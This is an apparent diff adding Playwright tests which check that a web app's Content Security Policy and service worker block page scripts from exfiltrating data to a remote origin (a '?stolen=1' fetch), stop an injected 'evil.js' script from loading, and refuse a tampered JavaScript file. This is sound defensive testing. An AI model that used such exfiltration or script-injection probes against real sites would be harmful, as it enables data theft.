@@ -1,0 +1,79 @@
+import type { Page } from '@playwright/test'
+import { kept, switchOn, visit } from './kept-for-an-outage'
+import { expect, loadingNotes, test } from './world/test'
+
+const registerChunk = /page-register\.[^/]*\.js$/
+
+test.beforeEach(({ world, watch }) => {
+  watch.allow(loadingNotes, /connect-src|script-src|Content Security Policy|Failed to fetch/)
+  return switchOn(world)
+})
+
+/** What somebody's code in the page could do with an address that the policy does not name for it. */
+function tryOut(page: Page, address: string) {
+  return page.evaluate(async url => {
+    const called = await fetch(url).then(
+      () => 'let through',
+      () => 'refused',
+    )
+    const script = document.createElement('script')
+    const ran = new Promise<string>(resolve => {
+      script.addEventListener('load', () => resolve('let through'))
+      script.addEventListener('error', () => resolve('refused'))
+    })
+    try {
+      script.src = 'http://localhost:9/evil.js'
+      document.head.append(script)
+    } catch {
+      return { called, ran: 'refused' }
+    }
+    return { called, ran: await ran }
+  }, address)
+}
+
+const refused = { called: 'refused', ran: 'refused' }
+
+test('the worker may fetch from anywhere and the page may not: not with it, and not in the copy that it keeps', async ({
+  page,
+  world,
+}) => {
+  const reply = await page.request.get('/sw.js')
+  expect(reply.headers()['content-security-policy']).toBe("default-src 'none'; connect-src *")
+  await visit(page)
+  const url = (await kept(page)).find(one => one.startsWith(world.remotes.origin)) ?? ''
+  world.remotes.asked.length = 0
+  expect(await tryOut(page, `${url}?stolen=1`)).toEqual(refused)
+
+  world.site.set('', { kind: 'refused' })
+  await page.goto('/login')
+  await expect(page.getByRole('button', { name: 'Log in' })).toBeVisible()
+  expect(await tryOut(page, `${url}?stolen=1`)).toEqual(refused)
+  expect(world.remotes.asked.filter(({ url: asked }) => asked.includes('stolen'))).toEqual([])
+})
+
+test('a file that was altered on another origin is refused by the worker, and a good copy that it kept is shown', async ({
+  page,
+  world,
+}) => {
+  await visit(page)
+  const fault = world.remotes.set(/\.js$/, { kind: 'flipped' })
+  const session = await page.context().newCDPSession(page)
+  await session.send('Network.clearBrowserCache')
+  await page.goto('/register')
+  await expect(page.getByRole('textbox').first()).toBeVisible()
+
+  await page.evaluate(async () => {
+    const files = await caches.open('files-1')
+    for (const { url } of await files.keys())
+      if (/page-register\.[^/]*\.js$/.test(url)) await files.delete(url)
+  })
+  await session.send('Network.clearBrowserCache')
+  await page.goto('/register')
+  await expect(page.getByText('Log-in and profile could not be opened').first()).toBeVisible()
+  expect(fault.hits).toBeGreaterThan(0)
+  expect((await kept(page)).filter(url => registerChunk.test(url))).toEqual([])
+
+  fault.heal()
+  await page.getByRole('button', { name: 'Try again' }).first().click()
+  await expect(page.getByRole('textbox').first()).toBeVisible()
+})
